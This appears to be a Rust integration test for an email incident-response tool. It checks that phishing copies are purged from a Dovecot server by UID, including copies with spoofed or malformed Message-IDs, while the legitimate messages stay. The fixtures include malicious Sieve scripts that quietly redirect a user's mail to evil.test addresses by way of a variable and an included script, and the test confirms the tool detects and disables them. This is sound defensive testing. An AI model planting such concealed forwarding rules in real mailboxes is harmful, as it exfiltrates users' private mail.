//! The adversarial corpus over IMAP and ManageSieve on a real Dovecot: copies found by
//! `UIDVALIDITY:UID`, never by a header the sender wrote — in a 3,000-message folder with
//! non-ASCII Message-IDs too — and Dovecot's own `doveadm search` and Pigeonhole's `sieve-test`
//! say what is left.

use mail::Connector;
use model::Role;

use crate::adversarial::{
    action_on, approve, cluster, decoys, indicator, long_id, padding, phish, sieve_scripts,
    thread_reply, PHISH_HOST,
};
use crate::connectors::imap_settings;
use crate::corpus::drop_message;
use crate::dovecot::{chown_tree, Dovecot};
use crate::helpers::spawn_app_with;
use crate::pigeonhole::{sends_mail_out, sieve_actions};

const ALICE: &str = "alice@example.test";
const BOB: &str = "bob@example.test";
const CAROL: &str = "carol@example.test";

/// The UIDs `doveadm search` finds in a folder of a mailbox for a search query.
fn search(dovecot: &Dovecot, mailbox: &str, folder: &str, query: &[&str]) -> usize {
    let mut args = vec!["search", "-u", mailbox, "mailbox", folder];
    args.extend_from_slice(query);
    let out = dovecot.doveadm(&args);
    // A folder that does not exist holds nothing (doveadm says so with exit code 68).
    if !out.status.success() && String::from_utf8_lossy(&out.stderr).contains("doesn't exist") {
        return 0;
    }
    assert!(out.status.success(), "{out:?}");
    String::from_utf8_lossy(&out.stdout).lines().count()
}

#[tokio::test]
async fn on_dovecot_every_phish_copy_goes_and_the_legitimate_twin_and_3000_others_stay() {
    let dovecot = Dovecot::start(&[ALICE, BOB, CAROL]);
    let root = dovecot.mail_root();
    // alice's inbox: 3,000 messages, every hundredth with a non-ASCII Message-ID and a phish.
    for n in 0..3_000 {
        let mailbox = ALICE;
        if n % 100 == 0 {
            let id = format!("Message-ID: <r\u{e9}sum\u{e9}-{n}-\u{4f60}\u{597d}@evil.test>\r\n");
            drop_message(&root, mailbox, "INBOX", &phish(&id, mailbox, n, ""));
        } else {
            crate::helpers::deliver(
                &root,
                mailbox,
                &format!("<filler-{n}@example.test>"),
                "INBOX",
            );
        }
    }
    let (long_id, padding, decoys) = (long_id(), padding(), decoys());
    drop_message(&root, BOB, "INBOX", &thread_reply(BOB));
    for raw in [
        phish("", BOB, 1, ""),
        phish(&long_id, BOB, 2, ""),
        phish(
            &format!("{padding}Message-ID: <padded@evil.test>\r\n"),
            BOB,
            3,
            "",
        ),
        phish("Message-ID: <thread-7@example.test>\r\n", BOB, 4, ""),
        phish("Message-ID: <decoyed@evil.test>\r\n", BOB, 5, &decoys),
    ] {
        drop_message(&root, BOB, "INBOX", &raw);
    }
    // carol forwards through an included script and a variable, out of a naive reader's sight.
    drop_message(&root, CAROL, "INBOX", &phish("", CAROL, 6, ""));
    sieve_scripts(
        &root.join(CAROL),
        &[
            ("main", "require [\"include\", \"variables\"];\nset \"to\" \"c@evil.test\";\nredirect \"${to}\";\ninclude :personal \"more\";\n"),
            ("more", "redirect \"c2@evil.test\";\n"),
        ],
    );
    for mailbox in [ALICE, BOB, CAROL] {
        chown_tree(&root.join(mailbox));
    }
    let all_mailboxes = [ALICE, BOB, CAROL].map(String::from).to_vec();
    let app = spawn_app_with(|s| {
        s.mail = Connector::Imap {
            settings: Box::new(imap_settings(&dovecot)),
            index_mailboxes: all_mailboxes,
        };
    })
    .await;
    let token = app.token("analyst", Role::SearchAndPurge).await;
    let scanned = airdesk_core::index::scan(&app.state).await.unwrap();
    // carol's home holds her `.dovecot.sieve`, which Dovecot also lists as a folder it cannot
    // open: her other folders are indexed all the same.
    assert_eq!(
        (scanned.added, scanned.unreadable),
        (3_007, 0),
        "{scanned:?}"
    );

    let inv = indicator(&app, &token, "domain", PHISH_HOST).await;

    let by_host = cluster(&inv, "url_domain", PHISH_HOST);
    let bobs: Vec<&str> = by_host["messages"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["mailbox"] != ALICE)
        .map(|m| m["internet_message_id"].as_str().unwrap())
        .collect();
    assert_eq!(by_host["email_count"], 30 + 5 + 1, "{bobs:?}");
    let action = approve(&app, &token, &action_on(&inv, by_host)).await;
    assert_eq!(action["status"], "completed", "{action}");
    assert_eq!(action["details"], "36 succeeded");
    for mailbox in [ALICE, BOB, CAROL] {
        assert_eq!(
            search(&dovecot, mailbox, "INBOX", &["body", PHISH_HOST]),
            0,
            "{mailbox} still has phish in the inbox"
        );
    }
    assert_eq!(search(&dovecot, ALICE, "Recoverable Items", &["all"]), 30);
    assert_eq!(search(&dovecot, BOB, "Recoverable Items", &["all"]), 5);
    assert_eq!(search(&dovecot, ALICE, "INBOX", &["all"]), 2_970);
    assert_eq!(
        search(
            &dovecot,
            BOB,
            "INBOX",
            &["header", "message-id", "<thread-7@example.test>"]
        ),
        1,
        "the legitimate message whose Message-ID the phish borrowed stays"
    );
    assert_eq!(search(&dovecot, BOB, "INBOX", &["all"]), 1);

    // carol's forwarding was seen through, turned off over ManageSieve, and Pigeonhole agrees.
    let before = sieve_actions(&root.join(CAROL), None).unwrap();
    assert!(sends_mail_out(&before), "{before}");
    let turn_off = inv["actions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["type"] == "turn_off_forwarding")
        .expect("carol's forwarding is proposed for turn-off");
    assert_eq!(turn_off["target"]["mailbox"], CAROL);
    let done = approve(&app, &token, turn_off["id"].as_str().unwrap()).await;
    assert_eq!(done["status"], "completed", "{done}");
    let detail = done["results"][0]["detail"].as_str().unwrap();
    assert!(
        detail.contains("${to} (redirect in the Sieve script \"main\")")
            && detail.contains("c2@evil.test (redirect in the Sieve script \"more\")"),
        "{detail}"
    );
    let after = sieve_actions(&root.join(CAROL), None).unwrap();
    assert!(!sends_mail_out(&after), "{after}");
}
